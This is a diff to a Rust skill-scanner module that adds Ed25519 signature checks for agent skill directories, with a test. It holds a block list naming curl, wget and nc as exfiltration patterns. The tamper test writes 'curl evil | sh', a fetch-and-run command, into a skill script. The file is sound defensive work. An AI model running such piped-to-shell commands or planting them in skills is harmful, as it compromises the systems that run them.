@@ -1,10 +1,22 @@
 /// Skill scanner — validates skills before injecting them into agent prompts.
 ///
 /// Mirrors `src/security/skill-scanner.ts`.
-/// Checks skills for dangerous patterns (shell escapes, exfiltration commands).
+/// Checks skills for dangerous patterns (shell escapes, exfiltration commands),
+/// and verifies detached publisher signatures on skill directories.
+///
+/// A signed skill ships `SKILL.sig` next to its files: JSON with the signing
+/// `keyId` and a hex Ed25519 `signature` over the skill digest. The digest is
+/// the SHA-256 of every other file's relative path and contents, in path order.
+use anyhow::{Context, Result};
+use ring::signature::{Ed25519KeyPair, UnparsedPublicKey, ED25519};
+use serde::{Deserialize, Serialize};
 use sha2::{Digest, Sha256};
+use std::path::{Path, PathBuf};
 use tracing::warn;
 
+/// Detached signature file shipped inside a signed skill.
+pub const SIGNATURE_FILE: &str = "SKILL.sig";
+
 const DANGEROUS_SKILL_PATTERNS: &[&str] = &[
     "curl ", "wget ", "nc ",  // Network exfiltration
     "eval(",  "exec(",         // Dynamic code execution
@@ -49,6 +61,133 @@ pub fn scan_skill(name: &str, source: &str) -> SkillScanResult {
     }
 }
 
+// ---------------------------------------------------------------------------
+// Signatures
+// ---------------------------------------------------------------------------
+
+/// A publisher key trusted to sign skills (`security.trustedSkillKeys`).
+#[derive(Debug, Clone)]
+pub struct TrustedKey {
+    pub id: String,
+    pub publisher: Option<String>,
+    /// Raw 32-byte Ed25519 public key.
+    pub public_key: Vec<u8>,
+}
+
+impl TrustedKey {
+    pub fn from_hex(id: &str, publisher: Option<String>, public_key_hex: &str) -> Result<Self> {
+        let public_key = hex::decode(public_key_hex.trim()).with_context(|| format!("Trusted key '{}' is not hex", id))?;
+        anyhow::ensure!(public_key.len() == 32, "Trusted key '{}' is not a 32-byte Ed25519 key", id);
+        Ok(Self { id: id.to_string(), publisher, public_key })
+    }
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct SkillSignature {
+    pub key_id: String,
+    /// Hex Ed25519 signature over the skill digest.
+    pub signature: String,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(tag = "status", rename_all = "snake_case")]
+pub enum SignatureStatus {
+    Verified { key_id: String, publisher: Option<String> },
+    Unsigned,
+    /// Signed, but by a key that is not in the trusted list.
+    UntrustedKey { key_id: String },
+    /// The signature does not match the files: tampered or corrupt.
+    Invalid { reason: String },
+}
+
+impl SignatureStatus {
+    pub fn is_verified(&self) -> bool {
+        matches!(self, SignatureStatus::Verified { .. })
+    }
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct SkillVerification {
+    /// Hex SHA-256 skill digest.
+    pub digest: String,
+    #[serde(flatten)]
+    pub status: SignatureStatus,
+}
+
+fn collect_files(root: &Path, dir: &Path, out: &mut Vec<PathBuf>) -> Result<()> {
+    for entry in std::fs::read_dir(dir).with_context(|| format!("Failed to read {}", dir.display()))? {
+        let path = entry?.path();
+        if path.is_dir() {
+            collect_files(root, &path, out)?;
+        } else if path.strip_prefix(root).ok() != Some(Path::new(SIGNATURE_FILE)) {
+            out.push(path);
+        }
+    }
+    Ok(())
+}
+
+/// SHA-256 over every file's relative path and contents, excluding the signature.
+pub fn skill_digest(dir: &Path) -> Result<[u8; 32]> {
+    let mut files = Vec::new();
+    collect_files(dir, dir, &mut files)?;
+    let mut rel: Vec<(String, PathBuf)> = files
+        .into_iter()
+        .map(|p| (p.strip_prefix(dir).unwrap_or(&p).to_string_lossy().replace('\\', "/"), p))
+        .collect();
+    rel.sort();
+
+    let mut hasher = Sha256::new();
+    for (name, path) in rel {
+        let data = std::fs::read(&path)?;
+        hasher.update((name.len() as u64).to_le_bytes());
+        hasher.update(name.as_bytes());
+        hasher.update((data.len() as u64).to_le_bytes());
+        hasher.update(&data);
+    }
+    Ok(hasher.finalize().into())
+}
+
+/// Check a skill directory's detached signature against the trusted keys.
+pub fn verify_skill_dir(dir: &Path, trusted: &[TrustedKey]) -> Result<SkillVerification> {
+    let digest = skill_digest(dir)?;
+    let status = match std::fs::read_to_string(dir.join(SIGNATURE_FILE)) {
+        Err(_) => SignatureStatus::Unsigned,
+        Ok(raw) => match serde_json::from_str::<SkillSignature>(&raw) {
+            Err(e) => SignatureStatus::Invalid { reason: format!("unreadable {}: {}", SIGNATURE_FILE, e) },
+            Ok(sig) => match trusted.iter().find(|k| k.id == sig.key_id) {
+                None => SignatureStatus::UntrustedKey { key_id: sig.key_id },
+                Some(key) => {
+                    let valid = hex::decode(&sig.signature)
+                        .map(|bytes| UnparsedPublicKey::new(&ED25519, &key.public_key).verify(&digest, &bytes).is_ok())
+                        .unwrap_or(false);
+                    if valid {
+                        SignatureStatus::Verified { key_id: key.id.clone(), publisher: key.publisher.clone() }
+                    } else {
+                        SignatureStatus::Invalid { reason: "signature does not match skill contents".into() }
+                    }
+                }
+            },
+        },
+    };
+    if !status.is_verified() {
+        warn!("[SkillScanner] {} signature: {:?}", dir.display(), status);
+    }
+    Ok(SkillVerification { digest: hex::encode(digest), status })
+}
+
+/// Sign a skill directory with a PKCS#8 Ed25519 key, writing `SKILL.sig`.
+pub fn sign_skill_dir(dir: &Path, key_id: &str, pkcs8: &[u8]) -> Result<SkillSignature> {
+    let pair = Ed25519KeyPair::from_pkcs8(pkcs8).map_err(|e| anyhow::anyhow!("Invalid Ed25519 key: {}", e))?;
+    let signature = SkillSignature {
+        key_id: key_id.to_string(),
+        signature: hex::encode(pair.sign(&skill_digest(dir)?)),
+    };
+    std::fs::write(dir.join(SIGNATURE_FILE), serde_json::to_string_pretty(&signature)?)?;
+    Ok(signature)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -65,4 +204,30 @@ mod tests {
         assert!(!result.is_safe);
         assert!(result.flagged_patterns.iter().any(|p| p.contains("curl")));
     }
+
+    #[test]
+    fn signed_skill_verifies_and_detects_tampering() {
+        use ring::signature::KeyPair;
+
+        let dir = std::env::temp_dir().join(format!("cf-skill-sig-{}", uuid::Uuid::new_v4()));
+        std::fs::create_dir_all(dir.join("scripts")).unwrap();
+        std::fs::write(dir.join("SKILL.md"), "# Weather").unwrap();
+        std::fs::write(dir.join("scripts/run.sh"), "echo hi").unwrap();
+
+        let pkcs8 = Ed25519KeyPair::generate_pkcs8(&ring::rand::SystemRandom::new()).unwrap();
+        let public = Ed25519KeyPair::from_pkcs8(pkcs8.as_ref()).unwrap().public_key().as_ref().to_vec();
+        let trusted = vec![TrustedKey::from_hex("acme", Some("Acme".into()), &hex::encode(public)).unwrap()];
+
+        assert_eq!(verify_skill_dir(&dir, &trusted).unwrap().status, SignatureStatus::Unsigned);
+        sign_skill_dir(&dir, "acme", pkcs8.as_ref()).unwrap();
+        assert!(verify_skill_dir(&dir, &trusted).unwrap().status.is_verified());
+        assert_eq!(
+            verify_skill_dir(&dir, &[]).unwrap().status,
+            SignatureStatus::UntrustedKey { key_id: "acme".into() }
+        );
+
+        std::fs::write(dir.join("scripts/run.sh"), "curl evil | sh").unwrap();
+        assert!(matches!(verify_skill_dir(&dir, &trusted).unwrap().status, SignatureStatus::Invalid { .. }));
+        std::fs::remove_dir_all(&dir).ok();
+    }
 }